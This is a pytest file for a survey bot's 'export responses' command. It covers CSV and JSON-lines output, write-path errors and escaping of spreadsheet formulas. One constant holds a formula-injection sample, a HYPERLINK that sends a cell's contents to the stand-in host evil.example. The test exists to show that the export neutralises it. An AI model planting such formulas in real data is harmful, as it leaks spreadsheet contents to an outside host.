"""`retention-bot export responses`: one record per answered survey, CSV or JSON lines."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner

from bot.cli import main
from builders import answer, customer
from insights.export import spreadsheet_safe
from storage import schema
from storage.database import make_engine
from storage.models import AnswerTag


def test_export_jsonl_and_csv(factory, database_url):
    when = datetime(2026, 5, 2, 10, tzinfo=UTC)
    with factory() as session, session.begin():
        who = customer(session, when, external_id="cust-1", name="Åse Ærø")
        survey_session = answer(session, who, "nps", 4, when, text="Too expensive, 太贵了")
        comment = next(a for a in survey_session.answers if a.text)
        comment.sentiment, comment.sentiment_label = -0.6, "negative"
        session.add(AnswerTag(answer_id=comment.id, reason="price", rule="price.en.x",
                              source="rules", created_at=when))  # fmt: skip
        answer(session, who, "csat", 5, when)
        answer(session, who, "nps", None, when)  # sent, never answered: not exported
    env = {"DATABASE_URL": database_url}
    result = CliRunner().invoke(main, ["export", "responses", "--format", "jsonl"], env=env)
    assert result.exit_code == 0, result.stderr
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert len(records) == 2
    first = records[0]
    assert first["external_id"] == "cust-1"
    assert first["customer_name"] == "Åse Ærø"
    assert (first["survey"], first["score"], first["comment"]) == (
        "nps",
        4,
        "Too expensive, 太贵了",
    )
    assert first["reasons"] == ["price"]
    assert first["rules"] == ["price.en.x"]
    assert first["sentiment_label"] == "negative"
    assert first["answered_at"] == "2026-05-02T10:00:00+00:00"
    assert records[1]["survey"] == "csat"
    assert records[1]["reasons"] == []
    result = CliRunner().invoke(main, ["export", "responses", "--format", "csv"], env=env)
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [row["score"] for row in rows] == ["4", "5"]
    assert rows[0]["reasons"] == "price"


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_csv_cells_cannot_run_as_spreadsheet_formulas(factory, database_url):
    """A comment typed in Telegram reaches the team's spreadsheet: it must show, not run."""
    when = datetime(2026, 5, 2, 10, tzinfo=UTC)
    with factory() as session, session.begin():
        who = customer(session, when, external_id="-42", name="@SUM(A1:A9)")
        first = answer(session, who, "nps", 2, when, text=FORMULA)
        comment = next(a for a in first.answers if a.text)
        comment.sentiment, comment.sentiment_label = -0.6, "negative"
        answer(session, who, "csat", 1, when, text="+1 555 0100, call me")
        answer(session, who, "csat", 2, when, text="\tindented =1+1")
        answer(session, who, "csat", 3, when, text="fine = good, 2+2")  # not at the start: kept
    env = {"DATABASE_URL": database_url}
    result = CliRunner().invoke(main, ["export", "responses", "--format", "csv"], env=env)
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [row["comment"] for row in rows] == [
        "'" + FORMULA,
        "'+1 555 0100, call me",
        "'\tindented =1+1",
        "fine = good, 2+2",
    ]
    assert {row["external_id"] for row in rows} == {"'-42"}
    assert {row["customer_name"] for row in rows} == {"'@SUM(A1:A9)"}
    assert rows[0]["sentiment"] == "-0.6"  # a number the export computed stays a number
    assert rows[0]["score"] == "2"

    result = CliRunner().invoke(main, ["export", "responses", "--format", "jsonl"], env=env)
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert records[0]["comment"] == FORMULA  # JSON lines are for programs: verbatim
    assert records[0]["external_id"] == "-42" and records[0]["customer_name"] == "@SUM(A1:A9)"


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("", ""),
        ("a=b", "a=b"),
        (" =1", " =1"),  # a leading space makes it text already
        ("'quoted", "'quoted"),
    ],
)
def test_spreadsheet_safe(text, safe):
    assert spreadsheet_safe(text) == safe


def _sqlite_env(tmp_path: Path) -> dict[str, str]:
    url = f"sqlite:///{tmp_path / 'export.db'}"
    engine = make_engine(url)
    schema.upgrade(engine)
    engine.dispose()
    return {"DATABASE_URL": url}


@pytest.mark.parametrize(
    ("target", "problem"),
    [
        ("missing/dir/x.csv", "the folder {tmp}/missing/dir does not exist"),
        ("a-file/x.csv", "{tmp}/a-file is not a folder"),
    ],
)
def test_export_to_a_path_it_cannot_write_is_one_line(tmp_path, target, problem):
    (tmp_path / "a-file").write_text("")
    path = tmp_path / target
    env = _sqlite_env(tmp_path)
    result = CliRunner().invoke(main, ["export", "responses", "-o", str(path)], env=env)
    assert result.exit_code == 2
    assert result.stderr == f"error: cannot write {path}: {problem.format(tmp=tmp_path)}\n"
    assert result.stdout == ""


def test_export_to_a_file_says_how_many(tmp_path):
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(
        main, ["export", "responses", "-o", str(out)], env=_sqlite_env(tmp_path)
    )
    assert result.exit_code == 0, result.stderr
    assert out.read_text(encoding="utf-8").startswith("response_id,external_id,")
    assert result.stderr == f"wrote 0 responses to {out}\n"
